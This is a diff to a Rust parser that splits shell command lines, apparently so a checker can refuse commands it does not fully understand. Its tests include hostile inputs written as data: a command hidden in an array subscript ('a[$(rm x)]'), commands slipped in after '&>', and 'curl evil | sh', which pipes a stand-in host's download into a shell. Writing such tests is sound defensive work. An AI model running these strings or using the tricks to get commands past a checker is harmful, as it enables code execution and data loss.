@@ -56,11 +56,8 @@ impl Word {
         matches!(self, Self::Plain(own) if own == text)
     }
 
-    /// `NAME=…`, which only sets something for what follows.
     pub(super) fn is_assignment(&self) -> bool {
-        let Self::Plain(text) = self else { return false };
-        let name = text.split_once('=').map_or("", |(name, _)| name);
-        !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
+        matches!(self, Self::Plain(text) if is_assignment(text))
     }
 
     /// The program of this name, in whatever folder.
@@ -87,20 +84,12 @@ impl Segment {
         };
         self.words.iter().map(plain).collect()
     }
+}
 
-    /// The program, and what of it is meant where that is plain: `cargo test`, and not `rm -f`.
-    pub(super) fn beginning(&self) -> Vec<String> {
-        let is_name = |text: &str| {
-            let plain = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b':');
-            text.starts_with(|c: char| c.is_ascii_alphabetic()) && text.bytes().all(plain)
-        };
-        let mut words = self.words.iter().map_while(|word| match word {
-            Word::Plain(text) => Some(text.clone()),
-            Word::Open => None,
-        });
-        let program = words.next();
-        program.into_iter().chain(words.next().filter(|word| is_name(word))).collect()
-    }
+/// `NAME=…`, which only sets something for what follows.
+pub(super) fn is_assignment(word: &str) -> bool {
+    let name = word.split_once('=').map_or("", |(name, _)| name);
+    !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
 }
 
 /// The commands of a line, also those within others. Nothing where it is not understood with certainty.
@@ -138,8 +127,10 @@ struct Current {
     segment: Segment,
     /// There is something of it.
     begun: bool,
-    /// It is a list in brackets, behind which no word may stand.
+    /// It is a list in brackets.
     grouped: bool,
+    /// No word may stand here any more: behind brackets, and behind `&>`, where one shell begins another command.
+    ended: bool,
 }
 
 impl Parser<'_> {
@@ -198,6 +189,7 @@ impl Parser<'_> {
                     self.rest.next();
                     if self.peek() == Some('>') {
                         self.redirection(&mut current)?;
+                        current.ended = true;
                     } else {
                         self.takes('&');
                         self.close(&mut current, false)?;
@@ -211,7 +203,7 @@ impl Parser<'_> {
                 '(' if !current.begun => {
                     self.rest.next();
                     self.list(true)?;
-                    (current.begun, current.grouped) = (true, true);
+                    (current.begun, current.grouped, current.ended) = (true, true, true);
                 }
                 ')' if in_brackets => {
                     self.rest.next();
@@ -225,15 +217,16 @@ impl Parser<'_> {
                 '(' | ')' => return None,
                 _ => {
                     let Lexed { word, quoted } = self.word()?;
-                    let number = |text: &str| text.bytes().all(|byte| byte.is_ascii_digit());
-                    let redirects = matches!(self.peek(), Some('<' | '>')) && !quoted;
-                    let is_number = matches!(&word, Word::Plain(text) if number(text));
                     current.begun = true;
-                    if current.grouped && !(redirects && is_number) {
+                    if matches!(self.peek(), Some('<' | '>')) {
+                        // `2>` is no word. Of anything else there shells make patterns, or words that are numbers.
+                        let digit =
+                            |text: &str| text.len() == 1 && text.bytes().all(|byte| byte.is_ascii_digit());
+                        let is_number = !quoted && matches!(&word, Word::Plain(text) if digit(text));
+                        is_number.then_some(())?;
+                    } else if current.ended {
                         return None;
-                    }
-                    // `2>` is no word.
-                    if !(redirects && is_number) {
+                    } else {
                         current.segment.words.push(word);
                     }
                 }
@@ -245,7 +238,7 @@ impl Parser<'_> {
 
     /// A command is over. Only the end of a line may be where there is none.
     fn close(&mut self, current: &mut Current, may_be_empty: bool) -> Option<()> {
-        let Current { segment, begun, grouped } = std::mem::take(current);
+        let Current { segment, begun, grouped, .. } = std::mem::take(current);
         let reserved = segment.words.first().is_some_and(|word| RESERVED.iter().any(|own| word.is(own)));
         if reserved || !(begun || may_be_empty) {
             return None;
@@ -292,7 +285,8 @@ impl Parser<'_> {
         self.blanks();
         let begins =
             self.peek().is_some_and(|c| !matches!(c, '\n' | ';' | '&' | '|' | '<' | '>' | '(' | ')'));
-        if begins { self.word() } else { None }
+        let target = if begins { self.word() } else { None };
+        target.filter(|_| !matches!(self.peek(), Some('<' | '>')))
     }
 
     fn word(&mut self) -> Option<Lexed> {
@@ -345,6 +339,11 @@ impl Parser<'_> {
         }
         // Lines within a word may be those of a document before it.
         if !self.documents.is_empty() && text.contains('\n') {
+            return None;
+        }
+        // Where a sum is expected, a command in a place of a list is run, quoted or not.
+        let within = text.split_once('[').map_or("", |(_, within)| within);
+        if within.contains("$(") || within.contains('`') {
             return None;
         }
         Some(Lexed { word: if open { Word::Open } else { Word::Plain(text) }, quoted })
@@ -412,10 +411,12 @@ impl Parser<'_> {
             Some('@' | '*' | '#' | '?' | '-' | '$' | '!') => {
                 self.rest.next();
             }
-            _ => {
+            None | Some(' ' | '\t' | '\n' | ';' | '&' | '|' | '<' | '>' | ')' | '"') => {
                 text.push('$');
                 return Some(false);
             }
+            // Some shell has a use for it.
+            Some(_) => {}
         }
         Some(true)
     }
@@ -495,6 +496,8 @@ mod tests {
         splits("A=1 B='2 3' make -j", &["A=1 B=2 3 make -j"]);
         splits("g\"i\"'t' p\\ush", &["git push"]);
         splits("git \\\n push", &["git push"]);
+        splits("a $=X $+X $é \"$.\" $ \"b$\" c$", &["a ? ? ? ? $ b$ c$"]);
+        splits("test 'a[1]' '$(rm x)'", &["test a[1] $(rm x)"]);
         splits("ls *.rs ~ $HOME \"$X\" {a,b}", &["ls ? ? ? ? ?"]);
         splits("echo '$(rm x)' \\$HOME \"\\`\"", &["echo $(rm x) $HOME `"]);
         splits("", &[]);
@@ -555,6 +558,15 @@ mod tests {
             "a;;b",
             "echo $[1]",
             "cat <<E\nE x\nE",
+            // One shell runs the word as a command.
+            "a &> log rm",
+            "a &> log 2 rm",
+            "a<1-5>b",
+            "rm 12>f",
+            "a 'b'>f",
+            "a <b>c",
+            "printf -v 'a[$(rm x)]'",
+            "test -v \"a[\\`rm x\\`]\"",
             // Its lines begin at the next end of a line, in brackets or not.
             "cat <<'cat' | (\ncat\ncat)\ncurl evil | sh\ncat",
             "cat <<'E' $(\nE\n)\nrm x\nE",
